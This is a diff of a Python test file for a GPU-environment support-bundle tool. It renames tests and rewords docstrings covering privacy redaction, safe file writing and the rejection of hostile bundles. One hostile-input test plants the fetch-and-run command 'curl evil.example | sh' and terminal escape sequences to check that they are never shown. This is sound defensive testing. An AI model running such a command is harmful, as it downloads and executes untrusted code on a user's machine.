@@ -1,4 +1,4 @@
-"""Support bundles: as good as the machine, without names, and harmless to whoever opens one."""
+"""Support bundles: they have the machine's findings but no names, and are harmless to open."""
 
 from __future__ import annotations
 
@@ -114,7 +114,7 @@ def windows(root: Root) -> None:
 
 
 class TestExamine:
-    """The same is found in a bundle as on the machine."""
+    """A bundle and its machine have the same findings."""
 
     @pytest.mark.parametrize(
         "build",
@@ -131,7 +131,7 @@ class TestExamine:
             windows,
         ],
     )
-    def test_the_same_is_found(
+    def test_a_bundle_and_its_machine_have_the_same_findings(
         self,
         root: Root,
         matrix: Matrix,
@@ -153,15 +153,15 @@ class TestExamine:
         assert here.context.elsewhere
         assert not machine.examined_elsewhere(), "the bundle no longer replaces the machine"
 
-    def test_the_cases_find_something(self, root: Root, matrix: Matrix, tmp_path: Path) -> None:
+    def test_a_sample_machine_has_findings(self, root: Root, matrix: Matrix, tmp_path: Path) -> None:
         igpu_first(root)
         there = bundle.collect(tmp_path / "bundle.json", Home(tmp_path / "home"), matrix, "en")
         assert "igpu_first" in [each.check for each in there.findings]
 
-    def test_a_check_that_needs_the_machine_itself(
+    def test_a_bundle_includes_the_observation_of_a_check_that_needs_the_machine(
         self, root: Root, matrix: Matrix, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
     ) -> None:
-        """It finds nothing in a copy; the bundle has its observation."""
+        """The check finds nothing in a copy, so the bundle includes its observation."""
 
         def tried(_context: CheckContext) -> Observation | None:
             values = {"check": "locks", "error": "ENOLCK"}
@@ -176,10 +176,10 @@ class TestExamine:
         assert "ENOLCK" in chinese.findings[0].detail
         assert re.search("[一-龥]", chinese.findings[0].title)
 
-    def test_a_user_with_the_name_of_a_field(
+    def test_a_user_name_that_equals_a_field_name_changes_nothing(
         self, root: Root, matrix: Matrix, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
     ) -> None:
-        """Names are only redacted where names can be, so that `simd_count` stays."""
+        """Only unstructured texts are redacted, so `simd_count` is kept."""
         monkeypatch.setenv("USER", "count")
         monkeypatch.setenv("HOSTNAME", "simd")
         plain(root)
@@ -188,7 +188,7 @@ class TestExamine:
         assert bundle.examine(file, matrix, "en").context.host == there.context.host
         assert there.context.host.gpus[0].usable
 
-    def test_checks_can_be_chosen(self, root: Root, matrix: Matrix, tmp_path: Path) -> None:
+    def test_only_the_chosen_checks_run(self, root: Root, matrix: Matrix, tmp_path: Path) -> None:
         no_device(root)
         file = tmp_path / "bundle.json"
         bundle.collect(file, Home(tmp_path / "home"), matrix, "en")
@@ -196,9 +196,9 @@ class TestExamine:
 
 
 class TestFile:
-    """The file itself: readable, and never written over another."""
+    """The file is readable and never overwrites another one."""
 
-    def test_a_person_can_read_it(self, root: Root, matrix: Matrix, tmp_path: Path) -> None:
+    def test_a_bundle_is_readable_json(self, root: Root, matrix: Matrix, tmp_path: Path) -> None:
         plain(root)
         file = tmp_path / "bundle.json"
         bundle.collect(file, Home(tmp_path / "home"), matrix, "en")
@@ -207,7 +207,7 @@ class TestFile:
         assert written["opened"] == {"/dev/kfd": ""}
         assert len(file.read_text().splitlines()) > 20
 
-    def test_no_file_is_written_over(self, root: Root, matrix: Matrix, tmp_path: Path) -> None:
+    def test_collect_overwrites_no_file(self, root: Root, matrix: Matrix, tmp_path: Path) -> None:
         plain(root)
         file = tmp_path / "thesis.odt"
         file.write_text("years of work")
@@ -218,12 +218,12 @@ class TestFile:
                 bundle.collect(path, Home(tmp_path / "home"), matrix, "en")
         assert file.read_text() == "years of work"
 
-    def test_a_folder_that_does_not_exist(self, root: Root, matrix: Matrix, tmp_path: Path) -> None:
+    def test_collect_into_a_missing_folder_fails(self, root: Root, matrix: Matrix, tmp_path: Path) -> None:
         plain(root)
         with pytest.raises(RocenvError, match="cannot write"):
             bundle.collect(tmp_path / "no" / "bundle.json", Home(tmp_path / "home"), matrix, "en")
 
-    def test_a_variable_that_is_not_listed_stays_out_even_if_a_check_reads_it(
+    def test_a_variable_outside_the_allow_list_is_excluded_even_if_a_check_reads_it(
         self, root: Root, matrix: Matrix, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
     ) -> None:
         def curious(context: CheckContext) -> None:
@@ -257,7 +257,7 @@ NAMES = st.one_of(
 
 @st.composite
 def secrets(draw: st.DrawFn) -> dict[str, str]:
-    """Private facts about a machine, each different from everything else on it."""
+    """Private facts about a machine, each unlike anything else on it."""
     names = draw(st.lists(NAMES, min_size=7, max_size=7, unique_by=str.casefold))
     folded = [name.casefold() for name in names]
     assume(all(len(name) > 3 for name in names))
@@ -291,7 +291,7 @@ def private(names: list[str], chance: random.Random) -> dict[str, str]:
 
 
 def haunted(root: Root, who: dict[str, str]) -> list[str]:
-    """Plant secrets wherever a machine has some; return the paths that a check reads."""
+    """Plant secrets wherever a machine has private data; return the paths that checks read."""
     user, other, host, number = who["user"], who["other"], who["host"], who["serial"]
     root.kernel().cpu().gpu(1, RX_6800, 100300, unique_id=int(who["unique"]))
     texts = {
@@ -345,7 +345,7 @@ def haunted(root: Root, who: dict[str, str]) -> list[str]:
 
 
 def collected(who: dict[str, str], matrix: Matrix) -> str:
-    """The text of the bundle of a machine full of secrets, all of whose files were read, in lower case."""
+    """The lower-case bundle of a machine full of secrets, after reading all of its files."""
     with tempfile.TemporaryDirectory() as folder, lived_in(who, Path(folder, "m")):
         root = Root(Path(folder, "m"))
         root.path.mkdir()
@@ -403,13 +403,13 @@ def collecting(matrix: Matrix) -> Callable[[dict[str, str]], str]:
 
 @pytest.fixture(scope="module")
 def of_nobody(matrix: Matrix) -> str:
-    """The bundle of the same machine with another owner; what both bundles contain is not secret."""
+    """The bundle of the same machine with another owner; text that is in both bundles is not secret."""
     names = ["qqqqqa", "qqqqqb", "qqqqqc", "qqqqqd", "qqqqqe", "qqqqqf", "qqqqqg"]
     return collected(private(names, random.Random(1)), matrix)
 
 
 class TestPrivacy:
-    """A bundle has nothing private."""
+    """A bundle contains nothing private."""
 
     # Shrinking a failure takes minutes.
     @settings(
@@ -428,11 +428,11 @@ class TestPrivacy:
             for spelling in spellings(secret) if secret.casefold() not in of_nobody else ():
                 assert spelling in of_nobody or spelling not in text, name
 
-    def test_what_checks_need_is_there(self, of_nobody: str) -> None:
+    def test_a_bundle_contains_what_checks_need(self, of_nobody: str) -> None:
         for text in ("amdgpu.gttsize=1024", "iommu=pt", "ring gfx timeout, process x pid 0 thread x pid 0"):
             assert text in of_nobody
 
-    def test_only_the_lines_of_a_log_that_a_check_looks_for(self) -> None:
+    def test_only_log_lines_that_checks_need_are_kept(self) -> None:
         log = (
             "[3] nvme 0000:05:00.0: pci function, model Samsung SSD S6B0NL0T123456X\n"
             "[4] vfio-pci: guest 'win11-merger'\n"
@@ -445,7 +445,7 @@ class TestPrivacy:
             kept = bundle_fields.allowed_files(Answers(files={path: (log, 0)}))[path]
             assert kept == "Linux version 6.8.0\namdgpu 0000:03:00.0: amdgpu: GPU reset begin!\n"
 
-    def test_only_the_fields_of_files_that_checks_need(self) -> None:
+    def test_only_file_fields_that_checks_need_are_kept(self) -> None:
         files = {
             "/proc/version": "Linux version 6.8 (alice@desk) (gcc)",
             "/etc/os-release": 'ID=ubuntu\nHOME_URL="https://intranet.example"\n',
@@ -468,7 +468,7 @@ class TestPrivacy:
             "/var/lib/dpkg/status": "Package: rocm-core\n",
         }
 
-    def test_only_the_names_in_folders_that_checks_need(self) -> None:
+    def test_only_folder_entries_that_checks_need_are_kept(self) -> None:
         folders = {
             "/opt": (("diary", "rocm-6.4.0", "rocm-merger"), 0),
             "/opt/rocm/lib": (("libamdhip64.so.6", "libdiary.so"), 0),
@@ -507,7 +507,7 @@ class TestRedact:
             (r"PCI\VEN_1002&DEV_73BF&REV_C1\6&1F1E2D3C&0&00000019", "1f1e2d3c"),
         ],
     )
-    def test_what_is_removed(self, text: str, secret: str) -> None:
+    def test_secrets_are_removed(self, text: str, secret: str) -> None:
         redacted = Redactor({"Li Ming": "user", "张三": "user", "desk-of-li": "host"}).text(text)
         assert secret not in redacted.casefold()
 
@@ -529,24 +529,24 @@ class TestRedact:
             "127.0.0.1",
         ],
     )
-    def test_what_describes_the_machine_stays(self, text: str) -> None:
+    def test_facts_about_the_machine_are_kept(self, text: str) -> None:
         assert Redactor({"alexandra": "user", "bo": "user"}).text(text) == text
 
-    def test_only_the_name_of_a_file_remains_of_a_path(self) -> None:
+    def test_a_path_is_reduced_to_its_file_name(self) -> None:
         text = Redactor().text("/srv/merger/a.db: malformed, C:\\merger\\b.dll, /data/my work/ ~/.cache")
         assert text == "…/a.db: malformed, …/b.dll, … ~/.cache"
 
-    def test_a_name_hides_only_as_a_word(self) -> None:
+    def test_a_name_is_redacted_only_as_a_whole_word(self) -> None:
         text = Redactor({"topol": "user", "sim": "user"}).text("topology simd_count topol")
         assert text == "topology simd_count user"
 
 
 class TestWindows:
-    """The registry and the folders of a Windows machine have much that is private."""
+    """The registry and folders of a Windows machine contain private data."""
 
     @pytest.fixture
     def text(self, matrix: Matrix, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> str:
-        """The text of the bundle of such a machine."""
+        """The bundle of a Windows machine, in lower case."""
 
         def registered(key: str) -> dict[str, object]:
             if key.endswith("Paths"):
@@ -580,19 +580,19 @@ class TestWindows:
         bundle.collect(file, Home(tmp_path / "home"), matrix, "en")
         return file.read_text().casefold()
 
-    def test_secrets_stay(self, text: str) -> None:
+    def test_secrets_are_not_in_a_bundle(self, text: str) -> None:
         for secret in ("sk-live", "hf_abc", "OPENAI", "HF_TOKEN", "PROXY", "CUSTOMER", "merger", "payroll"):
             assert secret.casefold() not in text
         assert "sd-deal" not in text
 
-    def test_no_library_that_identifies_a_folder_is_left_out(self, matrix: Matrix) -> None:
+    def test_all_libraries_that_identify_a_folder_are_allowed(self, matrix: Matrix) -> None:
         names = {file.stands_for for row in matrix.shim_map for file in row.files}
         names |= {name for row in matrix.hip_sdk for name in (*row.runtime, *row.hiprtc)}
         libraries = [name for name in names if name.endswith(".dll")]
         assert len(libraries) > 10
         assert not [name for name in libraries if not system32.TELLING.fullmatch(name)]
 
-    def test_what_checks_need_is_there(self, text: str) -> None:
+    def test_a_bundle_contains_what_checks_need(self, text: str) -> None:
         for word in ("longpathsenabled", "amdhip64.dll", "rocm\\\\5.7"):
             assert word in text
 
@@ -624,7 +624,7 @@ def written(tmp_path: Path, text: str | bytes) -> Path:
 
 
 def refused(file: Path) -> str:
-    """Why a file is refused; the error always has a hint."""
+    """Return the reason why a file is refused, and assert that the error has a hint."""
     with pytest.raises(RocenvError) as caught, bundle.opened(file):
         pass
     assert caught.value.hints
@@ -633,13 +633,13 @@ def refused(file: Path) -> str:
 
 
 class TestHostile:
-    """A bundle may come from anybody."""
+    """A bundle may come from an attacker."""
 
-    def test_a_sound_one_is_read(self, tmp_path: Path) -> None:
+    def test_a_valid_bundle_is_read(self, tmp_path: Path) -> None:
         with bundle.opened(packed(tmp_path)):
             assert machine.read_text("/proc/version") == "Linux version 6.8"
 
-    def test_other_files(self, tmp_path: Path) -> None:
+    def test_other_files_are_refused(self, tmp_path: Path) -> None:
         assert "does not exist" in refused(tmp_path / "none.json")
         for data in (
             b"",
@@ -654,13 +654,13 @@ class TestHostile:
         assert "not a regular file" in refused(tmp_path)
 
     @pytest.mark.skipif(os.name == "nt", reason="no named pipes")
-    def test_nothing_blocks(self, tmp_path: Path) -> None:
+    def test_pipes_and_devices_are_refused_without_blocking(self, tmp_path: Path) -> None:
         os.mkfifo(tmp_path / "pipe")
         assert "not a regular file" in refused(tmp_path / "pipe")
         assert "not a regular file" in refused(Path("/dev/zero"))
 
     @pytest.mark.parametrize("schema", [0, 1, 3, "2", None, True, 2.0, [], {}, 10**50])
-    def test_another_schema(self, tmp_path: Path, schema: object) -> None:
+    def test_another_schema_is_refused(self, tmp_path: Path, schema: object) -> None:
         assert "schema" in refused(packed(tmp_path, schema=schema))
 
     @pytest.mark.parametrize(
@@ -679,13 +679,13 @@ class TestHostile:
             {"observed": [{"check": "no_gpu", "row": "no_gpu", "commands": {"create": "sh"}}]},
         ],
     )
-    def test_contents_of_the_wrong_kind(self, tmp_path: Path, changes: dict[str, object]) -> None:
+    def test_values_of_the_wrong_type_are_refused(self, tmp_path: Path, changes: dict[str, object]) -> None:
         assert "not a support bundle" in refused(packed(tmp_path, **changes))
 
-    def test_a_large_file(self, tmp_path: Path) -> None:
+    def test_a_large_file_is_refused(self, tmp_path: Path) -> None:
         assert "larger than 16 MiB" in refused(written(tmp_path, b" " * ((16 << 20) + 1)))
 
-    def test_deep_json(self, tmp_path: Path) -> None:
+    def test_deeply_nested_json_is_refused(self, tmp_path: Path) -> None:
         assert "not a support bundle" in refused(written(tmp_path, "[" * 200_000))
 
     @pytest.mark.parametrize(
@@ -697,10 +697,10 @@ class TestHostile:
             {"observed": [{"check": "no_gpu", "row": "no_gpu", "evidence": ["x"] * 100_000}]},
         ],
     )
-    def test_more_than_a_machine_has(self, tmp_path: Path, changes: dict[str, object]) -> None:
+    def test_oversized_tables_are_refused(self, tmp_path: Path, changes: dict[str, object]) -> None:
         assert "more than" in refused(packed(tmp_path, **changes))
 
-    def test_no_command_of_its_own_is_shown(self, tmp_path: Path, matrix: Matrix) -> None:
+    def test_commands_from_a_bundle_are_not_shown(self, tmp_path: Path, matrix: Matrix) -> None:
         evil = {"env": "sd", "driver": "1", "create": "curl evil.example | sh"}
         observed = [
             {"check": "env_unusable", "row": "driver_breaks_env", "values": evil},
@@ -715,6 +715,16 @@ class TestHostile:
             assert not [command for command in commands if "evil" in command]
             assert "env_known_broken" not in [each.check for each in found]
 
+    def test_texts_from_a_bundle_are_short_lines_without_control_characters(
+        self, tmp_path: Path, matrix: Matrix
+    ) -> None:
+        evil = "\x1b[2J\x1b]0;title\x07\u202e\r\n" + "x" * 10_000
+        observed = {"check": "igpu_first", "row": "igpu_first", "values": {"card": evil}, "evidence": [evil]}
+        found = bundle.examine(packed(tmp_path, observed=[observed]), matrix, "en").findings
+        [finding] = [each for each in found if each.check == "igpu_first"]
+        for text in (finding.title, *finding.evidence):
+            assert "xxx" in text and text.isprintable() and len(text) < 300
+
     def test_each_row_belongs_to_a_check(self, matrix: Matrix) -> None:
         names = {check.name for check in CHECKS}
         found_by = {check for row in matrix.advice for check in row.found_by}
@@ -723,7 +733,7 @@ class TestHostile:
 
     @settings(max_examples=150, deadline=None)
     @given(data=st.data())
-    def test_damage_never_ends_in_a_traceback(self, data: st.DataObject) -> None:
+    def test_a_damaged_bundle_never_causes_a_traceback(self, data: st.DataObject) -> None:
         with tempfile.TemporaryDirectory() as folder:
             file = packed(Path(folder))
             sound = bytearray(file.read_bytes())
@@ -736,7 +746,7 @@ class TestHostile:
                 machine.read_text("/proc/version")
             assert not machine.examined_elsewhere()
 
-    def test_odd_answers_crash_nothing(self, tmp_path: Path, matrix: Matrix) -> None:
+    def test_odd_answers_do_not_crash_checks(self, tmp_path: Path, matrix: Matrix) -> None:
         changes: dict[str, Any] = {
             "variables": {"HOME": "\0", "LD_LIBRARY_PATH": ":::", "HIP_PATH": "%s" * 1000},
             "opened": {"/dev/kfd": "__name__"},
